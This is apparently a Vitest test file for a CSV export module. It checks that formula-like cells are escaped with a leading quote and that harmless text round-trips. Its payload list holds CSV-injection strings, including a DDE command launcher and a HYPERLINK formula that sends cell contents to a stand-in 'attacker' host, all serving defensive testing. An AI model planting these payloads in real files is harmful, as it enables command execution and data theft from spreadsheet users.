import { describe, expect, test } from 'vitest';
import { csvHeader, csvLine, csvRows, hasCsv } from './csv-writer.ts';
import type { ColumnDefinition } from './column.ts';

const payloads = [
  '=cmd|"/C calc"!A0',
  '+1+1',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u200B=1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(1)',
  '=HYPERLINK("http://attacker/?x="&A1,"click")',
  '=1,"=2"\r\n=3',
];

/** Reads RFC 4180 as a spreadsheet set to this separator does. */
function parse(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const letter = text[at]!;
    if (isQuoted) {
      if (letter !== '"') cell += letter;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else isQuoted = false;
    } else if (letter === '"' && cell === '') isQuoted = true;
    else if (letter === separator || letter === '\n') {
      row.push(cell.replace(/\r$/, ''));
      cell = '';
      if (letter === '\n') {
        rows.push(row);
        row = [];
      }
    } else cell += letter;
  }
  return rows;
}

const startsAFormula = /^[\s\u200B\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('csv', () => {
  test.each(payloads)('a cell that would run as a formula is text: %j', (payload) => {
    const [cells] = parse(csvLine([payload, 'next']));
    expect(cells).toHaveLength(2);
    expect(cells![0]).not.toMatch(startsAFormula);
    expect(cells![0]!.startsWith("'")).toBe(true);
    expect(cells![1]).toBe('next');
  });

  test.each([';', '\t', '|'])('nor does it where the spreadsheet separates by %j', (separator) => {
    const text = csvLine(['name', `a${separator}=1+1`]) + csvLine(['b\n=2', `c${separator} ${separator}@x`]);
    const cells = parse(text, separator).flat();
    expect(cells.length).toBeGreaterThan(2);
    for (const cell of cells) expect(cell).not.toMatch(startsAFormula);
  });

  test('text that is harmless comes back as it was', () => {
    const cells = [
      '',
      'plain',
      "O'Brien",
      'a,b',
      'say "hi"',
      'two\r\nlines',
      ' padded ',
      '50/25 M',
      'محمد',
      '1-2',
    ];
    expect(parse(csvLine(cells))).toEqual([cells]);
  });

  test('records end with CRLF and quotes are doubled', () => {
    expect(csvLine(['a"b', 'c'])).toBe('"a""b",c\r\n');
  });

  test('only columns with a text are written, headers like cells', () => {
    const columns: ColumnDefinition<{ name: string }>[] = [
      { id: 'name', header: '=Name', cell: ({ name }) => name, csv: ({ name }) => name },
      { id: 'action', header: 'Action', cell: () => null },
    ];
    expect(csvHeader(columns)).toBe("'=Name\r\n");
    expect(csvRows(columns, [{ name: 'x' }, { name: '+y' }])).toBe("x\r\n'+y\r\n");
    expect(hasCsv(columns)).toBe(true);
    expect(hasCsv(columns.slice(1))).toBe(false);
  });
});
